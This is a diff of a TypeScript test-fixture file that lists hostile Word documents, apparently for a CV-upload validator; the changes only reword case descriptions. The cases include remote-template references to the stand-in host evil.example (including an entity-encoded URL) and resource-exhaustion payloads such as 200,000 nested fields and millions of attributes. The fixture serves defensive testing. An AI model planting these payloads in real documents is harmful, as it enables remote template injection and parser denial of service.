@@ -68,28 +68,28 @@ export const activeDocuments: HostileFile[] = [
   ],
   [
     'cv_document',
-    'a template of a share',
+    'a template on a network share',
     'a.docx',
     relatedTo('\\\\evil.example\\a\\a.dotm'),
     loading,
   ],
   [
     'cv_document',
-    'a template by file://',
+    'a template with a file:// URL',
     'a.docx',
     relatedTo('file://evil.example/a.dotm'),
     loading,
   ],
   [
     'cv_document',
-    'a picture that is loaded',
+    'a remote picture',
     'a.docx',
     relatedTo('http://evil.example/a', 'image'),
     loading,
   ],
   [
     'cv_document',
-    'a template in other letters',
+    'a template with an encoded URL and an upper-case path',
     'a.docx',
     relatedTo('&#x68;ttp&#58;//evil.example/a', 'attachedTemplate', 'WORD/_RELS/a.RELS'),
     loading,
@@ -120,7 +120,7 @@ export const activeDocuments: HostileFile[] = [
   ],
   [
     'cv_document',
-    'a list of relationships that is larger than it says',
+    'a list of relationships that is larger than declared',
     'a.docx',
     docxOf({ name: '_rels/.rels', content: ' '.repeat(100_000), claimedSize: 10 }),
     damaged,
@@ -204,35 +204,35 @@ export const activeDocuments: HostileFile[] = [
   ),
   [
     'cv_document',
-    'a document with 200,000 fields within fields',
+    'a document with 200,000 nested fields',
     'a.docx',
     () => headed(`${begin}${mark('separate')}`.repeat(200_000)),
     damaged,
   ],
   [
     'cv_document',
-    'a document with a mark of a field with millions of attributes',
+    'a document with a field mark with millions of attributes',
     'a.docx',
     () => headed(`<w:fldChar${' a=""'.repeat(2_000_000)}/>`),
     damaged,
   ],
   [
     'cv_document',
-    'a document with a mark of a field that does not end',
+    'a document with an unterminated field mark',
     'a.docx',
     () => headed(`<w:instrText ${'a'.repeat(10_000_000)}`),
     damaged,
   ],
   [
     'cv_document',
-    'a document with 200,000 fields within a long one',
+    'a document with 200,000 fields inside a long one',
     'a.docx',
     () => headed(around(code(`A${' '.repeat(1_000_000)}`) + `${begin}${end}`.repeat(200_000))),
     stored,
   ],
   [
     'cv_document',
-    'a document whose text is larger than it says',
+    'a document whose text is larger than declared',
     'a.docx',
     docxOf({ name: 'word/a.xml', content: ' '.repeat(100_000), claimedSize: 10 }),
     damaged,
@@ -246,7 +246,7 @@ export const activeDocuments: HostileFile[] = [
   ],
   [
     'cv_document',
-    'a document with fields within fields, and a picture that it contains',
+    'a document with nested fields and a local picture',
     'a.docx',
     headed(
       `${begin}${code('IF ')}${within}${code(' = 1')}${mark('separate')}${within}${end}` +
@@ -278,7 +278,7 @@ export const activeDocuments: HostileFile[] = [
   ),
   [
     'cv_document',
-    'a document with links in its table of contents, and fields within other fields',
+    'a document with links in its table of contents, and nested fields',
     'a.docx',
     headed(
       `${begin}${code('TOC \\h')}${mark('separate')}` +
@@ -322,10 +322,10 @@ export const activeDocuments: HostileFile[] = [
   ],
   [
     'cv_document',
-    'an own template',
+    'a local template',
     'a.docx',
     relatedTo('file:///C:\\Users\\Ana\\CV.dotx'),
     stored,
   ],
-  ['cv_document', 'the usual template', 'a.docx', relatedTo('Normal.dotm'), stored],
+  ['cv_document', 'the default template', 'a.docx', relatedTo('Normal.dotm'), stored],
 ];
